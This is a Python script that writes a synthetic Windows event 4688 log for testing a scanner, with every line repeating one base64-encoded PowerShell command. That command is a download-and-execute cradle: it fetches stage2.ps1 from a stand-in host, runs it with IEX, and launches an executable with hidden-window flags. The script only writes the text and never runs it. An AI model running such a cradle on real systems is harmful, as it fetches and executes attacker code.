#!/usr/bin/env python3
"""Writes a process-creation log whose lines share one encoded command.

    scripts/gen-encoded-log.py OUT [LINES]

Each line is a Windows event 4688 record in key=value form, with a
timestamp, host and user that vary, and the same PowerShell command,
UTF-16LE and base64-encoded as `-enc` takes it. Logs of this kind
repeat one payload thousands of times, which is what the scanner's
payload memo is for. The output is the same on every run. LINES
defaults to 60,000, about 32 MB.
"""

import base64
import sys

COMMAND = (
    'IEX (New-Object Net.WebClient).DownloadString('
    '"http://update-check.example-cdn.com/stage2.ps1"); '
    'Start-Process C:\\Users\\Public\\svc.exe -ArgumentList 10.20.30.40'
)


def main() -> None:
    if len(sys.argv) not in (2, 3):
        sys.exit("usage: scripts/gen-encoded-log.py OUT [LINES]")
    out = sys.argv[1]
    lines = int(sys.argv[2]) if len(sys.argv) == 3 else 60_000
    encoded = base64.b64encode(COMMAND.encode("utf-16le")).decode()
    with open(out, "w", encoding="ascii", newline="\n") as f:
        for i in range(lines):
            minute = i % 60
            f.write(
                f"2024-03-16T12:{minute:02d}:{minute:02d}Z host{i % 7} "
                f'EventID=4688 CommandLine="powershell.exe -nop -w hidden '
                f'-enc {encoded}" user=svc_{i % 13}\n'
            )


if __name__ == "__main__":
    main()
